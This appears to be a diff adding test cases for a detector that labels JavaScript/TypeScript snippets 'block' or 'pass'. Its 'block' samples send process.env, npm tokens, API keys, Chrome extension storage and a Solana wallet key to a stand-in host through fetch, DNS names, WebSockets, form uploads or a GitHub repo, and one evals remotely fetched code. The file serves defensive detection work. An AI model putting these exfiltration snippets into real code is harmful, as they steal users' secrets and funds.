@@ -46,3 +46,143 @@ describe('what makes functions of texts', () => {
     expect(await decision(path, text)).toBe(expected);
   });
 });
+
+describe('members of objects, as TypeScript writes them', () => {
+  it.each<Case>([
+    [
+      'a parameter that the object keeps',
+      'a.ts',
+      `class T { constructor(private env = process.env) {}\n  async f() { await fetch("https://c.example.invalid/", { method: "PUT", body: JSON.stringify(this.env) }); } }\nnew T().f();`,
+      'block',
+    ],
+    [
+      'a parameter that is passed',
+      'lib/a.ts',
+      `class T { constructor(readonly env: object) {}\n  async f() { await fetch("https://c.example.invalid/", { method: "PUT", body: JSON.stringify(this.env) }); } }\nnew T({ ...process.env }).f();`,
+      'block',
+    ],
+    [
+      'a field',
+      'a.ts',
+      `class T { private readonly env = { ...process.env };\n  async f() { await fetch("https://c.example.invalid/", { method: "PUT", body: JSON.stringify(this.env) }); } }`,
+      'block',
+    ],
+    [
+      'a private field, spread',
+      'a.js',
+      `class T { #env = process.env;\n  f() { return fetch("https://c.example.invalid/", { method: "PUT", body: JSON.stringify({ ...this.#env }) }); } }`,
+      'block',
+    ],
+    [
+      'a static field',
+      'a.js',
+      `class T { static env = process.env; }\nfetch("https://c.example.invalid/", { method: "PUT", body: JSON.stringify(T.env) });`,
+      'block',
+    ],
+    [
+      'a program as the default of a parameter',
+      'a.js',
+      `function use(text, run = eval) { run(text); }\nfetch("https://c.example.invalid/").then((r) => r.text()).then((t) => use(t));`,
+      'block',
+    ],
+    [
+      'one variable of the environment',
+      'a.ts',
+      `class T { constructor(private key = process.env.SERVICE_URL) {}\n  async f() { await fetch("https://example.com/", { method: "PUT", body: JSON.stringify({ url: this.key }) }); } }`,
+      'pass',
+    ],
+    [
+      'the way to fetch as a default, for tests',
+      'a.ts',
+      `class T { private readonly base = "https://example.com";\n  constructor(private get = fetch) {}\n  async f() { return (await this.get(this.base + "/x")).json(); } }`,
+      'pass',
+    ],
+  ])('%s', async (_, path, text, expected) => {
+    expect(await decision(path, text)).toBe(expected);
+  });
+});
+
+describe('ways out of the machine', () => {
+  it.each<Case>([
+    [
+      'a token in a name that is looked up',
+      'lib/d.js',
+      `require("dns").lookup(process.env.NPM_TOKEN + ".x.example.invalid", () => {});`,
+      'block',
+    ],
+    [
+      'a secret that is taken out of the environment first',
+      'lib/d.js',
+      `const { API_KEY } = process.env;\nrequire("dns").promises.resolve4(\`\${API_KEY}.x.example.invalid\`);`,
+      'block',
+    ],
+    [
+      'a file in another form, in a name',
+      'lib/d.js',
+      `const dns = require("dns"), fs = require("fs");\ndns.resolveTxt(fs.readFileSync("a").toString("hex").slice(0, 60) + ".x.example.invalid", () => {});`,
+      'block',
+    ],
+    [
+      'a host of the environment',
+      'lib/d.js',
+      `require("dns").lookup(process.env.SERVICE_NAME + ".internal", { family: 4 }, () => {});`,
+      'pass',
+    ],
+    [
+      'a digest in a name, as pictures of people are found',
+      'lib/d.js',
+      `const dns = require("dns"), { createHash } = require("crypto");\ndns.resolveSrv(createHash("sha1").update(domain).digest("hex") + ".example.com", () => {});`,
+      'pass',
+    ],
+    [
+      'a connection that is open',
+      'lib/w.js',
+      `const WebSocket = require("ws");\nconst w = new WebSocket("wss://c.example.invalid");\nw.on("open", () => w.send(JSON.stringify(process.env)));`,
+      'block',
+    ],
+    [
+      'a connection that is told how it is called',
+      'lib/w.js',
+      `const WebSocket = require("ws");\nconst w = new WebSocket(process.env.FEED_URL);\nw.on("open", () => w.send(JSON.stringify({ name: process.env.APP_NAME })));`,
+      'pass',
+    ],
+    [
+      'a repository of somebody',
+      'lib/o.js',
+      `const { Octokit } = require("@octokit/rest");\nnew Octokit({ auth: process.env.GITHUB_TOKEN }).repos.createOrUpdateFileContents({ owner: "x", repo: "y", path: "d", message: "m",\n  content: Buffer.from(JSON.stringify(process.env)).toString("base64") });`,
+      'block',
+    ],
+    [
+      'a file of the project in a repository',
+      'lib/o.js',
+      `const { Octokit } = require("@octokit/rest"), fs = require("fs");\nnew Octokit({ auth: process.env.GITHUB_TOKEN }).repos.createOrUpdateFileContents({ owner: "x", repo: "y", path: "d", message: "m",\n  content: fs.readFileSync("CHANGELOG.md").toString("base64") });`,
+      'pass',
+    ],
+    [
+      'wallets and profiles, each in a form',
+      'lib/w.js',
+      `const fs = require("fs"), os = require("os"), FormData = require("form-data"), axios = require("axios");\nconst dirs = [os.homedir() + "/.config/google-chrome/Default/Local Extension Settings", os.homedir() + "/.config/solana/id.json"];\nfor (const d of dirs) { if (fs.existsSync(d)) { const f = new FormData(); f.append("f", fs.createReadStream(d)); axios.post("https://c.example.invalid/u", f); } }`,
+      'block',
+    ],
+    [
+      'files that are uploaded, each in a form',
+      'lib/w.js',
+      `const fs = require("fs"), os = require("os"), FormData = require("form-data"), axios = require("axios");\nconst dirs = [os.homedir() + "/reports/a.json", os.homedir() + "/reports/b.json"];\nfor (const d of dirs) { if (fs.existsSync(d)) { const f = new FormData(); f.append("f", fs.createReadStream(d)); axios.post("https://example.com/u", f); } }`,
+      'pass',
+    ],
+    [
+      'a scanner over the whole machine beside a release',
+      'bundle.js',
+      `const { execSync } = require("child_process");\nexecSync("trufflehog filesystem / --json > found.json");\nexecSync("npm publish --access public");`,
+      'block',
+    ],
+    [
+      'a scanner over the project beside a release',
+      'release.js',
+      `const { execSync } = require("child_process");\nexecSync("trufflehog filesystem . --fail");\nexecSync("npm publish --access public");`,
+      'pass',
+    ],
+  ])('%s', async (_, path, text, expected) => {
+    expect(await decision(path, text)).toBe(expected);
+  });
+});
